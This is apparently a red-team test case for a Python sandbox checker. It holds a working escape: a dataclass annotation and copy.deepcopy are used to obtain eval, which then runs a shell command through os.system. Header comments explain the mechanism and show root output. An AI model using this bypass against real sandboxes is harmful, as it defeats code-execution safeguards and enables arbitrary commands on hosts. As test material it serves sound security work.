# expect: reject dunder
# verified: reaches its goal under plain python3 (3.11) in a temp dir (third static red team, ok_03_dataclass_dunder_annotation_reduce_eval)
# Mechanism: dunder name as a bare class-body annotation (not judged as a binding) made 
#   a dataclass field: the generated __init__ stores __reduce_ex__ on the instance; 
#   copy.deepcopy calls it (forged typing alias -> builtins eval)
# Goal reached: eval obtained as a value and called; ran a process (id)
# Checker: build/safe-exec-check --rules rules FILE -> exit 0 (accepted)
# Output seen under python3 (3.11.7), run in a throw-away temp dir:
#   | <built-in function eval>
#   | uid=0(root) gid=0(root) groups=0(root)
# A bare annotation `__reduce_ex__: object` in a class body binds nothing, so the
# dunder-binding rule never sees it; @dataclass makes it a field and its generated
# __init__ does `self.__reduce_ex__ = __reduce_ex__`, an instance attribute that
# shadows object.__reduce_ex__ (a non-data descriptor). copy.deepcopy then calls it.
import copy
import dataclasses
import typing


def red(proto):
    return (typing.List.copy_with, (("eval",),), {"_name": "__builtins__"})


@dataclasses.dataclass
class K:
    __reduce_ex__: object


forged = copy.deepcopy(K(red))
ev = copy.deepcopy(forged)
print(ev)
ev("__import__('os').system('id')")
